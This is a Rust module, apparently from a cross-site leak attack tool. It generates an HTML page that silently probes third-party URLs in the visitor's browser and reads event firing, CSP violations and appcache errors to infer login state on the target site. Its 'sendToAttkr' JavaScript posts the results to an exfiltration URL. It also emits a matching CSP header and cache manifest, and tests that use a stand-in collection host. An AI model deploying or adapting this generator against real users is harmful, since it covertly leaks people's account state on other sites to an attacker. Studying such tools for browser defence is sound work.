//! Attack page assembly: one probe per selected vector, rendered from the
//! leak templates and guarded by browser where the vector does not apply
//! to every target browser.

mod decision;
mod template;

pub use decision::{
    decision_rule, DecisionGroup, DecisionRow, DecisionTable, ProbeRef, Verdict,
    MAX_PROBES_PER_GROUP,
};
pub use template::{render, TemplateSet, KNOWN_SLOTS};

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::Path;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use thiserror::Error;

use crate::dynamic::DEFAULT_WINDOW_MS;
use crate::kb::{InclusionMethod, Kb, LeakMethod};
use crate::select::{AttackVector, SelectionResult};
use crate::BrowserId;

/// File name of the generated cache manifest, referenced from the page.
pub const APPCACHE_FILE: &str = "manifest.appcache";

#[derive(Debug, Error)]
pub enum PageError {
    #[error("cannot load templates: {0}")]
    Templates(String),
    #[error("no template `{template_id}` for class {class}")]
    MissingTemplate { class: String, template_id: String },
    #[error("template `{template_id}` uses unknown slot `{slot}`")]
    UnknownSlot { template_id: String, slot: String },
    #[error("template `{template_id}` slot `{slot}` has no value")]
    UnboundSlot { template_id: String, slot: String },
    #[error("class {0} is not in the knowledge base")]
    UnknownClass(String),
    #[error("selection has no vectors")]
    EmptySelection,
    #[error("{0} probes in one browser group; the decision table would be too large")]
    TooManyProbes(usize),
    #[error("invalid SD-URL `{0}`")]
    BadUrl(String),
    #[error(transparent)]
    Io(#[from] std::io::Error),
}

#[derive(Debug, Clone)]
pub struct PageOptions {
    pub exfil_url: String,
    pub window_ms: u64,
}

impl PageOptions {
    pub fn new(exfil_url: &str) -> Self {
        Self {
            exfil_url: exfil_url.into(),
            window_ms: DEFAULT_WINDOW_MS,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum RequirementKind {
    /// A response header the page must be served with.
    Header,
    /// An endpoint accepting POSTed reports.
    ReportEndpoint,
    /// A file served next to the page.
    File,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ServerRequirement {
    pub kind: RequirementKind,
    pub name: String,
    pub payload: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ManifestEntry {
    pub fn_name: String,
    pub class_name: String,
    pub sd_url: String,
    pub template_id: String,
    pub report_key: String,
    pub inclusion_method: InclusionMethod,
    pub browsers: BTreeSet<BrowserId>,
    /// JavaScript condition the call is wrapped in, if any.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub guard: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackPageBundle {
    pub html: String,
    pub server_requirements: Vec<ServerRequirement>,
    pub vector_manifest: Vec<ManifestEntry>,
}

impl AttackPageBundle {
    pub fn appcache_manifest(&self) -> Option<&str> {
        self.server_requirements
            .iter()
            .find(|r| r.kind == RequirementKind::File && r.name == APPCACHE_FILE)
            .map(|r| r.payload.as_str())
    }
}

/// (class, template id) pairs of the KB that `templates` cannot render.
pub fn missing_templates(kb: &Kb, templates: &TemplateSet) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for c in kb.classes() {
        for m in &c.inclusion_methods {
            let id = format!("{}.{}", c.leak_method.as_str(), m.key());
            if templates.get(&id).is_none() {
                out.push((c.name.clone(), id));
            }
        }
    }
    out
}

/// Stable key under which a probe reports, derived from the vector identity.
pub fn report_key(v: &AttackVector) -> String {
    let side = match v.target_side {
        crate::select::Side::A => "a",
        crate::select::Side::B => "b",
    };
    let digest = Sha256::digest(format!(
        "{}\n{}\n{}\n{side}",
        v.sd_url, v.class_name, v.target.0
    ));
    hex::encode(&digest[..6])
}

/// A JSON string literal that is also safe inside a `<script>` element.
fn js_str(s: &str) -> String {
    serde_json::to_string(s)
        .expect("strings serialize")
        .replace("</", "<\\/")
}

fn js_value(v: &impl Serialize) -> String {
    serde_json::to_string(v)
        .expect("value serializes")
        .replace("</", "<\\/")
}

fn fn_base(class_name: &str) -> String {
    class_name
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
        .collect()
}

fn guard_for(v: &AttackVector, browsers: &BTreeSet<BrowserId>) -> Option<String> {
    let runs: Vec<BrowserId> = browsers.intersection(&v.browsers).copied().collect();
    if runs.len() == browsers.len() {
        return None;
    }
    Some(
        runs.iter()
            .map(|b| format!("detectBrowser() == \"{}\"", b.display_name()))
            .collect::<Vec<_>>()
            .join(" || "),
    )
}

fn csp_directive(m: &InclusionMethod) -> &'static str {
    match m {
        InclusionMethod::HtmlTag { tag, .. } => match tag.as_str() {
            "iframe" | "frame" => "frame-src",
            "script" => "script-src",
            "img" | "input" => "img-src",
            "audio" | "video" | "source" | "track" => "media-src",
            "object" | "embed" | "applet" => "object-src",
            "link" => "style-src",
            _ => "default-src",
        },
        InclusionMethod::FormPostIframe => "frame-src",
        _ => "default-src",
    }
}

fn origin_of(url: &str) -> Result<String, PageError> {
    let u = url::Url::parse(url).map_err(|_| PageError::BadUrl(url.into()))?;
    Ok(u.origin().ascii_serialization())
}

fn slot_values(
    v: &AttackVector,
    fn_name: &str,
    key: &str,
    opts: &PageOptions,
    observable_a: &str,
    observable_b: &str,
) -> BTreeMap<&'static str, String> {
    let (tag, attr, extra, steps) = match &v.inclusion_method {
        InclusionMethod::HtmlTag { tag, attr, extra } => {
            let attrs: BTreeMap<&str, String> = extra
                .iter()
                .map(|e| {
                    let value = match (&e.value, &e.param) {
                        (Some(val), _) => val.clone(),
                        (None, Some(p)) => v.params.get(p).cloned().unwrap_or_default(),
                        (None, None) => String::new(),
                    };
                    (e.name.as_str(), value)
                })
                .collect();
            (tag.clone(), attr.clone(), attrs, Vec::new())
        }
        InclusionMethod::Composite { steps } => {
            (String::new(), String::new(), BTreeMap::new(), steps.clone())
        }
        _ => (String::new(), String::new(), BTreeMap::new(), Vec::new()),
    };
    BTreeMap::from([
        ("sd_url", js_str(&v.sd_url)),
        ("fn_name", fn_name.to_string()),
        ("report_key", key.to_string()),
        ("window_ms", opts.window_ms.to_string()),
        ("tag", js_str(&tag)),
        ("url_attr", js_str(&attr)),
        ("extra_attrs", js_value(&extra)),
        ("observable_a", js_str(observable_a)),
        ("observable_b", js_str(observable_b)),
        ("params", js_value(&v.params)),
        ("steps", js_value(&steps)),
    ])
}

const PRELUDE: &str = r#"function detectBrowser() {
  var ua = navigator.userAgent;
  if (/Edg(e|A|iOS)?\//.test(ua)) return "Edge";
  if (/Firefox\//.test(ua)) return "Firefox";
  if (/Chrom(e|ium)\//.test(ua)) return "Chrome";
  return "Other";
}
function report(key, signal) {
  var list = evnts[key] = evnts[key] || [];
  if (list.indexOf(signal) < 0) list.push(signal);
}
function sendToAttkr(data) {
  var body = JSON.stringify(data);
  if (navigator.sendBeacon && navigator.sendBeacon(exfilURL, body)) return;
  var x = new XMLHttpRequest();
  x.open("POST", exfilURL);
  x.setRequestHeader("Content-Type", "application/json");
  x.send(body);
}
"#;

/// Builds the attack page for `selection`. Every probe reports into
/// `evnts` under its report key; after the collection window the page
/// posts everything to the exfiltration URL.
pub fn generate_attack_page(
    selection: &SelectionResult,
    kb: &Kb,
    templates: &TemplateSet,
    opts: &PageOptions,
) -> Result<AttackPageBundle, PageError> {
    if selection.chosen.is_empty() {
        return Err(PageError::EmptySelection);
    }
    let mut used_names: BTreeMap<String, usize> = BTreeMap::new();
    let mut manifest = Vec::new();
    let mut bodies = Vec::new();
    let mut csp: BTreeMap<&'static str, BTreeSet<String>> = BTreeMap::new();
    let mut cached_urls: Vec<String> = Vec::new();

    for sel in &selection.chosen {
        let v = &sel.vector;
        let class = kb
            .get(&v.class_name)
            .ok_or_else(|| PageError::UnknownClass(v.class_name.clone()))?;
        let template_id = format!(
            "{}.{}",
            class.leak_method.as_str(),
            v.inclusion_method.key()
        );
        let text = templates
            .get(&template_id)
            .ok_or_else(|| PageError::MissingTemplate {
                class: v.class_name.clone(),
                template_id: template_id.clone(),
            })?;

        let base = fn_base(&v.class_name);
        let n = used_names.entry(base.clone()).or_insert(0);
        *n += 1;
        let fn_name = if *n == 1 { base } else { format!("{base}_{n}") };
        let key = report_key(v);
        let values = slot_values(
            v,
            &fn_name,
            &key,
            opts,
            &class.observable_a,
            &class.observable_b,
        );
        bodies.push(render(&template_id, text, &values)?);

        match class.leak_method {
            LeakMethod::CspViolation => {
                csp.entry(csp_directive(&v.inclusion_method))
                    .or_default()
                    .insert(origin_of(&v.sd_url)?);
            }
            LeakMethod::AppcacheError => cached_urls.push(v.sd_url.clone()),
            _ => {}
        }

        manifest.push(ManifestEntry {
            fn_name,
            class_name: v.class_name.clone(),
            sd_url: v.sd_url.clone(),
            template_id,
            report_key: key,
            inclusion_method: v.inclusion_method.clone(),
            browsers: v
                .browsers
                .intersection(&selection.browsers)
                .copied()
                .collect(),
            guard: guard_for(v, &selection.browsers),
        });
    }

    let mut requirements = Vec::new();
    if !csp.is_empty() {
        let mut policy = String::new();
        for (directive, origins) in &csp {
            let list: Vec<&str> = origins.iter().map(String::as_str).collect();
            let _ = write!(policy, "{directive} 'self' {}; ", list.join(" "));
        }
        let _ = write!(policy, "report-uri {}", opts.exfil_url);
        requirements.push(ServerRequirement {
            kind: RequirementKind::Header,
            name: "Content-Security-Policy".into(),
            payload: policy,
        });
    }
    requirements.push(ServerRequirement {
        kind: RequirementKind::ReportEndpoint,
        name: "exfil".into(),
        payload: opts.exfil_url.clone(),
    });
    if !cached_urls.is_empty() {
        let mut text = String::from("CACHE MANIFEST\nCACHE:\n");
        for u in &cached_urls {
            text.push_str(u);
            text.push('\n');
        }
        text.push_str("NETWORK:\n*\n");
        requirements.push(ServerRequirement {
            kind: RequirementKind::File,
            name: APPCACHE_FILE.into(),
            payload: text,
        });
    }

    let mut html = String::new();
    if cached_urls.is_empty() {
        html.push_str("<!DOCTYPE html>\n<html>\n");
    } else {
        let _ = write!(
            html,
            "<!DOCTYPE html>\n<html manifest=\"{APPCACHE_FILE}\">\n"
        );
    }
    html.push_str(
        "<head>\n<meta charset=\"utf-8\">\n</head>\n<body onload=\"attack()\">\n<script>\n",
    );
    let _ = writeln!(html, "var exfilURL = {};", js_str(&opts.exfil_url));
    let _ = writeln!(html, "var windowMs = {};", opts.window_ms);
    let _ = writeln!(html, "var target = {};", js_str(&selection.target.0));
    html.push_str("var evnts = {};\n");
    html.push_str(PRELUDE);
    html.push_str("function attack() {\n");
    for m in &manifest {
        match &m.guard {
            None => {
                let _ = writeln!(html, "  {}();", m.fn_name);
            }
            Some(g) => {
                let _ = writeln!(html, "  if ({g}) {{ {}(); }}", m.fn_name);
            }
        }
    }
    html.push_str(
        "  setTimeout(function () {\n    sendToAttkr({target: target, browser: detectBrowser(), events: evnts});\n  }, windowMs);\n}\n",
    );
    for b in &bodies {
        html.push_str(b.trim_end());
        html.push('\n');
    }
    html.push_str("</script>\n</body>\n</html>\n");

    Ok(AttackPageBundle {
        html,
        server_requirements: requirements,
        vector_manifest: manifest,
    })
}

fn write_json(path: &Path, v: &impl Serialize) -> std::io::Result<()> {
    let mut s = serde_json::to_string_pretty(v).expect("value serializes");
    s.push('\n');
    std::fs::write(path, s)
}

/// Writes the page, its server requirements, the manifest and the
/// decision table into `dir`.
pub fn write_bundle(
    bundle: &AttackPageBundle,
    table: &DecisionTable,
    dir: &Path,
) -> std::io::Result<()> {
    std::fs::create_dir_all(dir)?;
    std::fs::write(dir.join("attack_page.html"), &bundle.html)?;
    if let Some(m) = bundle.appcache_manifest() {
        std::fs::write(dir.join(APPCACHE_FILE), m)?;
    }
    write_json(
        &dir.join("server_requirements.json"),
        &bundle.server_requirements,
    )?;
    write_json(&dir.join("vector_manifest.json"), &bundle.vector_manifest)?;
    write_json(&dir.join("decision_table.json"), table)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::select::{select_vectors, AttackVector};
    use crate::StateId;
    use BrowserId::*;

    fn tag(t: &str, a: &str) -> InclusionMethod {
        InclusionMethod::HtmlTag {
            tag: t.into(),
            attr: a.into(),
            extra: vec![],
        }
    }

    fn templates() -> TemplateSet {
        let probe = "function {{fn_name}}() {\n  var el = document.createElement({{tag}});\n  el.onload = function () { report(\"{{report_key}}\", \"onload\"); };\n  el.onerror = function () { report(\"{{report_key}}\", \"onerror\"); };\n  el[{{url_attr}}] = {{sd_url}};\n  document.body.appendChild(el);\n}\n";
        TemplateSet::from_map(BTreeMap::from([
            ("events-fired.object".to_string(), probe.to_string()),
            ("events-fired.link".to_string(), probe.to_string()),
            ("csp-violation.iframe".to_string(), probe.to_string()),
        ]))
    }

    fn selection(vectors: &[AttackVector]) -> SelectionResult {
        let states = ["R1", "R2", "LO"].map(StateId::new).to_vec();
        select_vectors(
            &StateId::new("R1"),
            &BrowserId::ALL.into(),
            &states,
            vectors,
        )
        .unwrap()
    }

    fn hotcrp() -> Vec<AttackVector> {
        let mut x = AttackVector::simple(
            "http://t.test/offline.php",
            "EF-XctoObject",
            "R1",
            &["LO"],
            &BrowserId::ALL,
            tag("object", "data"),
        );
        x.target_side = crate::select::Side::B;
        vec![
            x,
            AttackVector::simple(
                "http://t.test/api.php",
                "EF-StatusErrorObject",
                "R1",
                &["R2"],
                &[Firefox, Edge],
                tag("object", "data"),
            ),
            AttackVector::simple(
                "http://t.test/api.php",
                "EF-StatusErrorLink",
                "R1",
                &["R2"],
                &[Chrome],
                tag("link", "href"),
            ),
        ]
    }

    #[test]
    fn guards_and_structure() {
        let sel = selection(&hotcrp());
        let b = generate_attack_page(
            &sel,
            &Kb::builtin(),
            &templates(),
            &PageOptions::new("https://ex.test/c"),
        )
        .unwrap();
        assert_eq!(b.vector_manifest.len(), 3);
        assert!(b.html.contains("<body onload=\"attack()\">"));
        assert!(b
            .html
            .contains("if (detectBrowser() == \"Chrome\") { EF_StatusErrorLink(); }"));
        assert!(b.html.contains("if (detectBrowser() == \"Firefox\" || detectBrowser() == \"Edge\") { EF_StatusErrorObject(); }"));
        assert!(b.html.contains("\n  EF_XctoObject();"));
        assert!(b.html.contains("var windowMs = 6000;"));
        assert!(b.appcache_manifest().is_none());
        assert_eq!(b.server_requirements.len(), 1);
        // Deterministic output.
        let again = generate_attack_page(
            &sel,
            &Kb::builtin(),
            &templates(),
            &PageOptions::new("https://ex.test/c"),
        )
        .unwrap();
        assert_eq!(b, again);
    }

    #[test]
    fn missing_template_names_class() {
        let sel = selection(&hotcrp());
        let t = TemplateSet::from_map(BTreeMap::new());
        match generate_attack_page(
            &sel,
            &Kb::builtin(),
            &t,
            &PageOptions::new("https://ex.test/c"),
        ) {
            Err(PageError::MissingTemplate { class, .. }) => assert_eq!(class, "EF-XctoObject"),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn csp_requirement_lists_origin_and_report_uri() {
        let mut v = AttackVector::simple(
            "http://t.test/login",
            "CSPViolation",
            "R1",
            &["R2", "LO"],
            &BrowserId::ALL,
            tag("iframe", "src"),
        );
        v.interference_tags
            .insert(crate::kb::InterferenceTag::EmitsCspViolation);
        let b = generate_attack_page(
            &selection(&[v]),
            &Kb::builtin(),
            &templates(),
            &PageOptions::new("https://ex.test/c"),
        )
        .unwrap();
        let csp = &b.server_requirements[0];
        assert_eq!(csp.name, "Content-Security-Policy");
        assert_eq!(
            csp.payload,
            "frame-src 'self' http://t.test; report-uri https://ex.test/c"
        );
    }

    #[test]
    fn decision_table_for_hotcrp() {
        let sel = selection(&hotcrp());
        let t = decision_rule(&sel, &Kb::builtin()).unwrap();
        assert_eq!(t.groups.len(), 2);
        let fe = t.group_for(Firefox).unwrap();
        assert_eq!(fe.browsers, [Firefox, Edge].into());
        assert_eq!(fe.rows.len(), 4);
        let target_rows: Vec<_> = fe
            .rows
            .iter()
            .filter(|r| r.verdict == Verdict::InTargetState)
            .collect();
        assert_eq!(target_rows.len(), 1);
        assert_eq!(t.group_for(Chrome).unwrap().browsers, [Chrome].into());
    }

    #[test]
    fn report_keys_are_stable_and_distinct() {
        let v = hotcrp();
        let keys: BTreeSet<String> = v.iter().map(report_key).collect();
        assert_eq!(keys.len(), 3);
        assert_eq!(report_key(&v[0]), report_key(&v[0].clone()));
        assert_eq!(report_key(&v[0]).len(), 12);
    }
}
